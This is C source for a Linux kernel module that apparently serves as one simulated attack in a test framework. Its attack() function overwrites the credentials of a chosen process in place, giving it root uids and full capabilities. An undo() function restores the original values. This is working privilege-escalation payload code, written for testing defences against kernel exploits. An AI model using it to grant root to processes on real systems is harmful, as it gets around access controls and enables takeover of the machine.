// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* The credentials of a task are overwritten where they are: what an exploit with a write does. */
#include "attack.h"

#include <linux/cred.h>
#include <linux/pid.h>

static int target;
module_param(target, int, 0444);
MODULE_PARM_DESC(target, "the process that becomes root");

static struct task_struct *task;
static struct cred original;

static int attack(void)
{
	struct cred *credentials;

	task = get_pid_task(find_vpid(target), PIDTYPE_PID);
	if (!task)
		return -ESRCH;
	credentials = (struct cred *)rcu_dereference_raw(task->real_cred);
	original = *credentials;
	credentials->uid = credentials->euid = credentials->suid = credentials->fsuid =
		GLOBAL_ROOT_UID;
	memset(&credentials->cap_effective, 0xff, sizeof(credentials->cap_effective));
	memset(&credentials->cap_permitted, 0xff, sizeof(credentials->cap_permitted));
	return 0;
}

static void undo(void)
{
	struct cred *credentials = (struct cred *)rcu_dereference_raw(task->real_cred);

	credentials->uid = original.uid;
	credentials->euid = original.euid;
	credentials->suid = original.suid;
	credentials->fsuid = original.fsuid;
	credentials->cap_effective = original.cap_effective;
	credentials->cap_permitted = original.cap_permitted;
	put_task_struct(task);
}

ATTACK("credentials of a task overwritten");
